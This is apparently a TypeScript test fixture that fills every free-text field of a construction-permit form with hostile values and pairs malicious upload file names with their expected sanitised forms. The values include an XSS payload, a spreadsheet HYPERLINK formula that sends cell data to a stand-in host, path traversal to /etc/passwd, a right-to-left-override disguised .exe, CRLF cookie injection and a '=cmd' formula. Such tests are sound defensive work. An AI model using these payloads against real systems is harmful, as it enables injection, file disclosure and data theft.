import { exampleForm } from '../../../api/demo-data/example-form.ts'
import type { FormValues } from '../../../api/forms/form.ts'

/** As text it is harmless; as HTML it would run, and could be found. */
export const NASTY = '"></script><img src=x onerror=__xss=1 data-xss>'

/** As text it is harmless; a spreadsheet that took it for a formula would fetch an address. */
export const FORMULA = '=HYPERLINK("http://example.test/?"&A1,"看")'

/** Every field of the application that one may write anything into. */
export function nastyForm(projectCode: string): FormValues {
  const words = ['legalRepresentative', 'registeredAddress', 'filerName', 'siteAddress', 'landContractNumber']
  const parties = ['owner', 'surveyor', 'designer', 'contractor', 'constructionSupervisor']
  const names = parties.flatMap((party) => [`${party}Person`, ...(party === 'owner' ? [] : [`${party}Name`])])
  const others = ['landApprovalAuthority', 'landApprovalNumber', 'phase', 'occupationPlace', ...names]
  const written = Object.fromEntries([...words, ...others].map((field) => [field, NASTY]))
  return { ...exampleForm, ...written, projectCode, projectName: FORMULA }
}

/** Names of files as nobody who means well writes them, each with what is kept of it. */
export const nastyNames: readonly (readonly [sent: string, kept: string])[] = [
  [`${NASTY.replace('/', '')}.pdf`, `${NASTY.replace('/', '').replace('"', '%22')}.pdf`],
  ['合同\u202efdp.exe.pdf', '合同fdp.exe.pdf'],
  [`a"b'c;filename=d.pdf`, `a%22b'c;filename=d.pdf`],
  ['../../../etc/passwd.pdf', 'passwd.pdf'],
  ['..\\..\\windows\\system.ini.pdf', 'system.ini.pdf'],
  ['a\r\nset-cookie: stolen=1\r\n.pdf', 'a%0D%0Aset-cookie: stolen=1%0D%0A.pdf'],
  [`${'很长😀'.repeat(90)}.jpeg.pdf`, `${'很长😀'.repeat(90)}.jpeg.pdf`.split(/(?:)/u).slice(-200).join('')],
  ['=cmd|A1.pdf', '=cmd|A1.pdf'],
  ['%2e%2e%2f%00.pdf', '%2e%2e%2f%00.pdf'],
  [' .pdf', '.pdf'],
]
